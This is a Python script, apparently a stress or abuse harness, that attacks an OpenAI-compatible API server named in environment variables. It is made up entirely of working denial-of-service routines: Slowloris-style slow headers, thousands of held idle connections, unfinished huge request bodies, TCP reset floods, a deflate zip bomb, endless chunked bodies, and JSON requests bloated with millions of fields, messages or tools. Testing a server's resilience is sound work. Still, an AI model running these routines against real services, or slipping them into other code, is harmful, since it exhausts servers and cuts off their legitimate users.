"""A program that tries to keep the process that serves it busy: `python hostile.py NAME`, until it is killed.

It needs the standard library alone, and prints a line once its attack has begun to tell.
"""

import json
import os
import resource
import socket
import struct
import sys
import threading
import time
import zlib
from contextlib import suppress
from urllib.parse import urlsplit

URL = urlsplit(os.environ["OPENAI_BASE_URL"])
KEY = os.environ["OPENAI_API_KEY"]
SAY = {"messages": [{"role": "user", "content": "x"}]}


def head(length, *more, path="/chat/completions", method="POST"):
    lines = [f"{method} {URL.path}{path} HTTP/1.1", "Host: x", f"Authorization: Bearer {KEY}", *more]
    return "\r\n".join([*lines, f"Content-Length: {length}", "", ""]).encode()


def connect(timeout=60):
    return socket.create_connection((URL.hostname, URL.port), timeout)


def send(body, *more):
    with connect() as sock:
        try:
            sock.sendall(head(len(body), "Connection: close", *more) + body)
            answer = b""
            while data := sock.recv(1 << 16):
                answer += data
        except OSError:
            return b""
    return answer


def told():
    sys.stdout.write("told\n")
    sys.stdout.flush()


def keep_sending(body, *more, threads=3):
    def repeat():
        while True:
            send(body, *more)
            told()

    for _ in range(threads):
        threading.Thread(target=repeat).start()


def hold(count, begin):
    """Connections that have sent so much, and nothing more; the ones that were closed are opened again."""
    held = []
    for index in range(count):
        with suppress(OSError):
            held.append(connect(5))
            held[-1].sendall(begin)
        if index == count // 5:
            told()
    time.sleep(3600)


def unfinished_bodies():
    body = head(31 << 20) + b'{"messages": "' + b"x" * (30 << 20)
    held = []

    def one():
        sock = connect()
        held.append(sock)
        sock.setblocking(False)
        rest = memoryview(body)
        until = time.monotonic() + 10
        while rest and time.monotonic() < until:
            try:
                rest = rest[sock.send(rest) :]
            except BlockingIOError:
                time.sleep(0.02)
            except OSError:
                return

    threads = [threading.Thread(target=one) for _ in range(24)]
    for each in threads:
        each.start()
    time.sleep(3)
    told()
    time.sleep(3600)


def idle_connections():
    hold(4000, b"")


def slow_headers():
    hold(400, b"POST /v1/chat/completions HTTP/1.1\r\nX-A: ")


def garbage():
    while True:
        try:
            with connect() as sock:
                sock.sendall(os.urandom(2000) + b"\r\n\r\n")
                sock.recv(100)
        except OSError:
            pass
        told()


def resets():
    linger = struct.pack("ii", 1, 0)
    while True:
        for _ in range(1000):
            try:
                sock = connect(5)
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)
                sock.close()
            except OSError:
                pass
        told()


def unread_streams():
    body = json.dumps({**SAY, "stream": True}).encode()
    while True:
        held = []
        for _ in range(200):
            try:
                held.append(connect(2))
                held[-1].sendall(head(len(body)) + body)
            except OSError:
                pass
        told()
        time.sleep(1)


def many_requests():
    while True:
        keep_sending(json.dumps(SAY).encode(), threads=64)
        time.sleep(3600)


def unknown_fields():
    fields = ",".join(f'"f{n:07}":0' for n in range(1_500_000))
    keep_sending(f'{{{fields},"messages":[{{"role":"user","content":"x"}}]}}'.encode())


def long_names():
    fields = ",".join(f'"{n:07}{"y" * 2000}":0' for n in range(5000))
    keep_sending(f'{{{fields},"messages":[{{"role":"user","content":"x"}}]}}'.encode())


def many_openings():
    number = 0
    while True:
        number += 1
        system = [{"role": "system", "content": ""}] * 17_000
        send(
            json.dumps(
                {"messages": [*system, {"role": "user", "content": f"{number}"}]}, separators=(",", ":")
            ).encode()
        )
        told()


def many_tools():
    tools = [{"type": "function", "function": {"name": f"f{n}"}} for n in range(11_000)]
    keep_sending(json.dumps({**SAY, "tools": tools}, separators=(",", ":")).encode())


def wrong_values():
    value = [0] * 200_000
    while True:
        for wrong in (
            {"model": value}, {"n": value}, {"tool_choice": value}, {"tools": [{"type": value}]},
            {"messages": [{"role": value}]}, {"messages": [value]}, {"max_tokens": value},
            {"messages": [{"role": "user", "content": [{"type": value}]}]}, {"stop": ["y" * 30_000_000]},
            {"model": "y" * 30_000_000}, {"messages": [{"role": "y" * 30_000_000}]},
        ):  # fmt: skip
            send(json.dumps({**SAY, **wrong}).encode())
        told()


def packed_zeros():
    packed = zlib.compress(b'{"messages": "' + b" " * 200_000_000 + b'"}', 1)
    keep_sending(packed, "Content-Encoding: deflate")


def chunks():
    body = b"".join(b"1\r\n%c\r\n" % byte for byte in json.dumps({"messages": "x" * 2_000_000}).encode())
    while True:
        try:
            with connect() as sock:
                lines = head(0).replace(b"Content-Length: 0", b"Transfer-Encoding: chunked")
                sock.sendall(lines + body[: 1 << 20])
                told()
                sock.sendall(body[1 << 20 :] + b"0\r\n\r\n")
                sock.recv(100)
        except OSError:
            pass


def endless_body():
    def one():
        while True:
            try:
                with connect() as sock:
                    sock.sendall(head(0).replace(b"Content-Length: 0", b"Transfer-Encoding: chunked"))
                    chunk = b"100000\r\n" + b" " * (1 << 20) + b"\r\n"
                    while True:
                        sock.sendall(chunk)
                        told()
            except OSError:
                told()

    for _ in range(4):
        threading.Thread(target=one).start()


def large_results():
    """A conversation of results of 30 MB, each rewritten in the next request."""
    number = 0
    while True:
        number += 1
        send(
            json.dumps(
                {"messages": [*SAY["messages"], {"role": "user", "content": f"{number}" * 4_000_000}]}
            ).encode()
        )
        told()


if __name__ == "__main__":
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    globals()[sys.argv[1]]()
